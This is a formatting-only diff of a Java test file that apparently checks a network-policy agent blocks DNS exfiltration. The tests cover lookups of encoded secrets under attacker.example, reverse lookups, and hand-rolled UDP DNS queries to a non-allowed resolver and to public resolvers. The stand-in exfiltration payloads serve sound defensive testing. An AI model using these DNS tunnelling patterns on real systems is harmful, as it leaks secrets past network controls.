@@ -14,13 +14,20 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** Data out through the name service: lookups of attacker names, reverse lookups, hand-rolled DNS over UDP. */
+/**
+ * Data out through the name service: lookups of attacker names, reverse lookups, hand-rolled DNS
+ * over UDP.
+ */
 class DnsExfiltrationTest {
   @TempDir Path dir;
 
-  static final List<String> SECRETS = List.of("mzxw6ytboi", "nbswy3dpeb3w64tmmq", "gezdgnbvgy3tqojq");
+  static final List<String> SECRETS =
+      List.of("mzxw6ytboi", "nbswy3dpeb3w64tmmq", "gezdgnbvgy3tqojq");
 
-  /** Each lookup leaks its name to the attacker's DNS server: denied and recorded although nothing connects. */
+  /**
+   * Each lookup leaks its name to the attacker's DNS server: denied and recorded although nothing
+   * connects.
+   */
   @Test
   void lookupsOfEncodedSecretsAreDeniedAndRecordedWithoutAnyConnection() {
     String n0 = SECRETS.get(0) + ".attacker.example";
@@ -28,7 +35,8 @@ class DnsExfiltrationTest {
     String n2 = SECRETS.get(2) + ".attacker.example";
     String l0 = a("lookup", n0);
     String l1 = a("lookup", n1.toUpperCase() + ".");
-    String isa = a("isa", n2, 443); // new InetSocketAddress(name, port): never throws, comes back unresolved
+    String isa =
+        a("isa", n2, 443); // new InetSocketAddress(name, port): never throws, comes back unresolved
     AgentJvm.Result run = H.runUser(H.jvm(dir), l0, l1, isa);
     assertAll(
         () -> H.denied(run, l0, "UnknownHostException"),
@@ -45,28 +53,37 @@ class DnsExfiltrationTest {
   }
 
   /**
-   * Reverse lookups ({@code getHostName()}, {@code getCanonicalHostName()}). Decided behaviour: the PTR query
-   * itself is not judged (see THREAT-MODEL.md); the name it returns is confirmed by a forward lookup, which
-   * the agent judges: a denied name is never handed to the application (the JDK returns the literal) and the
-   * attempt is recorded; an allowed name comes back as usual.
+   * Reverse lookups ({@code getHostName()}, {@code getCanonicalHostName()}). Decided behaviour: the
+   * PTR query itself is not judged (see THREAT-MODEL.md); the name it returns is confirmed by a
+   * forward lookup, which the agent judges: a denied name is never handed to the application (the
+   * JDK returns the literal) and the attempt is recorded; an allowed name comes back as usual.
    */
   @Test
   void reverseLookupsOnlyEverConfirmAllowedNames() {
     // A PTR query carries the address to whoever serves its reverse zone (4 bytes of payload per
-    // query): it is judged like a connect to that address. Denied, the JDK answers with the literal.
+    // query): it is judged like a connect to that address. Denied, the JDK answers with the
+    // literal.
     String evil = a("reverse", "127.0.0.3");
     String forward = a("lookup", Hosts.ALLOWED);
     String allowed = a("reverse", "127.0.0.2");
     AgentJvm.Result run = H.runUser(H.jvm(dir), evil, forward, allowed);
     assertAll(
-        () -> assertEquals("host=127.0.0.3 canonical=127.0.0.3", run.result(evil).detail, run.describe()),
+        () ->
+            assertEquals(
+                "host=127.0.0.3 canonical=127.0.0.3", run.result(evil).detail, run.describe()),
         // 127.0.0.2 is allowed once this JVM saw allowed.example.com resolve to it.
-        () -> assertEquals("host=" + Hosts.ALLOWED + " canonical=" + Hosts.ALLOWED, run.result(allowed).detail,
-            run.describe()),
+        () ->
+            assertEquals(
+                "host=" + Hosts.ALLOWED + " canonical=" + Hosts.ALLOWED,
+                run.result(allowed).detail,
+                run.describe()),
         () -> H.record(run, "127.0.0.3", "not-allowed", "DNS"));
   }
 
-  /** Lookups under an allowed wildcard reach the wildcard zone's name servers: allowed by the policy itself. */
+  /**
+   * Lookups under an allowed wildcard reach the wildcard zone's name servers: allowed by the policy
+   * itself.
+   */
   @Test
   void lookupsUnderAnAllowedWildcardAreAllowedByDesign() {
     String name = SECRETS.get(0) + ".wild.example.org";
@@ -76,22 +93,29 @@ class DnsExfiltrationTest {
     assertTrue(run.recordsFor(name).isEmpty(), run.describe());
   }
 
-  /** A DNS query datagram to a resolver the policy does not name (loopback stand-in): denied, nothing received. */
+  /**
+   * A DNS query datagram to a resolver the policy does not name (loopback stand-in): denied,
+   * nothing received.
+   */
   @Test
   void handRolledDnsQueryToANonAllowedResolverIsDenied() throws Exception {
     try (UdpReceiver resolver = UdpReceiver.start("127.0.0.3")) {
       String socket = a("udp-dns", "127.0.0.3", resolver.port(), "c2VjcmV0.attacker.example");
-      String channel = a("udp-dns-channel", "127.0.0.3", resolver.port(), "c2VjcmV0.attacker.example");
+      String channel =
+          a("udp-dns-channel", "127.0.0.3", resolver.port(), "c2VjcmV0.attacker.example");
       AgentJvm.Result run = H.runUser(H.jvm(dir), socket, channel);
       assertAll(
           () -> H.denied(run, socket, "SocketException"),
           () -> H.denied(run, channel, "SocketException"),
-          () -> assertEquals(List.of(), resolver.payloads(1, 300), "the query reached the resolver"),
+          () ->
+              assertEquals(List.of(), resolver.payloads(1, 300), "the query reached the resolver"),
           () -> H.record(run, "127.0.0.3", "not-allowed", "UDP"));
     }
   }
 
-  /** Public resolvers (8.8.8.8, 1.1.1.1, 2001:4860:4860::8888): only in a loopback-only namespace. */
+  /**
+   * Public resolvers (8.8.8.8, 1.1.1.1, 2001:4860:4860::8888): only in a loopback-only namespace.
+   */
   @Test
   void handRolledDnsQueriesToPublicResolversAreDenied() {
     String google = a("udp-dns", "8.8.8.8", 53, "c2VjcmV0.attacker.example");
